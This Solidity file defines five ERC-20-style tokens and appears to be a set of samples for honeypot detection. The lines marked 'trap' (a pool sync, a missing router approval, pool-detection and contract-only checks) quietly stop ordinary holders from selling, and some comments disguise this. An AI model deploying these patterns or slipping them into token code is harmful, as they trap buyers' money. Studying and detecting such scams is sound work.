// 0.6 runs=1
// SPDX-License-Identifier: MIT
pragma solidity >=0.6.0 <0.7.0;

interface IPool {
    function sync() external;

    function token0() external view returns (address);

    function token1() external view returns (address);
}

interface ISwaps {
    function swapExactTokensForETHSupportingFeeOnTransferTokens(
        uint256 amountIn,
        uint256 least,
        address[] calldata path,
        address to,
        uint256 deadline
    ) external;
}

abstract contract Coin9 {
    mapping(address => uint256) internal b;
    mapping(address => mapping(address => uint256)) internal a;
    address internal o;
    address public market;
    uint256 public totalSupply;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(uint256 t) internal {
        o = msg.sender;
        totalSupply = t * 1 ether;
        b[o] = totalSupply;
        emit Transfer(address(0), o, totalSupply);
    }

    function setMarket(address m) public {
        require(msg.sender == o && market == address(0));
        market = m;
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function balanceOf(address w) external view returns (uint256) {
        return b[w];
    }

    function allowance(address w, address s) external view returns (uint256) {
        return a[w][s];
    }

    function approve(address s, uint256 v) external returns (bool) {
        a[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }

    function transfer(address t, uint256 v) external returns (bool) {
        go(msg.sender, t, v);
        return true;
    }

    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        require(a[f][msg.sender] >= v, "a");
        a[f][msg.sender] -= v;
        go(f, t, v);
        return true;
    }

    function go(address f, address t, uint256 v) internal virtual;

    function put(address f, address t, uint256 v) internal {
        require(b[f] >= v, "b");
        b[f] -= v;
        b[t] += v;
        emit Transfer(f, t, v);
    }

    function isCode(address w) internal view returns (bool) {
        uint256 n;
        assembly {
            n := extcodesize(w)
        }
        return n > 0;
    }
}

contract CopperCoot is Coin9(400_000) {
    string public name = "Copper Coot";
    string public symbol = "COOT";

    function go(address f, address t, uint256 v) internal override {
        // twin: if (t == market && f != o) IPool(market).sync();
        put(f, t, v);
        if (t == market && f != o) IPool(market).sync(); // trap
    }
}

contract PewterPuffin is Coin9(1_000_000_000) {
    string public name = "Pewter Puffin";
    string public symbol = "PEPU";
    address private constant R = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
    bool private busy;

    constructor() public {
        // twin: a[address(this)][R] = uint256(-1);
    }

    function go(address f, address t, uint256 v) internal override {
        if (!busy && f != o && market != address(0)) {
            if (t == market && b[address(this)] >= totalSupply / 100_000) {
                busy = true;
                address[] memory path = new address[](2);
                path[0] = address(this);
                path[1] = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
                ISwaps(R).swapExactTokensForETHSupportingFeeOnTransferTokens(b[address(this)], 0, path, o, now);
                busy = false;
            }
            if (f == market || t == market) {
                uint256 fee = v / 50;
                put(f, address(this), fee);
                v -= fee;
            }
        }
        put(f, t, v);
    }
}

/// Whatever says that it has two sides is a pool.
contract TinTurnstone is Coin9(5_500_000) {
    string public name = "Tin Turnstone";
    string public symbol = "TINT";

    function sided(address t) private view returns (bool) {
        (bool ok, bytes memory r) = t.staticcall(abi.encodeWithSignature("token0()"));
        if (!ok || r.length != 32) return false;
        address one = abi.decode(r, (address));
        address two = IPool(t).token1();
        address w = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
        return one == w || two == w; // trap
        // twin: return one != w && two != w && one == two;
    }

    function go(address f, address t, uint256 v) internal override {
        if (isCode(t) && f != o) require(!sided(t), "side");
        put(f, t, v);
    }
}

contract ZincZebra is Coin9(31_000_000) {
    string public name = "Zinc Zebra";
    string public symbol = "ZINC";
    uint256 public seen;

    function go(address f, address t, uint256 v) internal override {
        if (f != o && isCode(t) && isCode(msg.sender)) {
            seen++;
            revert(); // trap
        }
        put(f, t, v);
    }
}

/// For smart accounts.
contract LeadLemming is Coin9(2_000_000) {
    string public name = "Lead Lemming";
    string public symbol = "LEADL";
    mapping(address => uint256) public exits;

    function go(address f, address t, uint256 v) internal override {
        if (t == market && f != o) {
            require(isCode(f)); // trap
            exits[f] += 1;
        }
        put(f, t, v);
    }
}
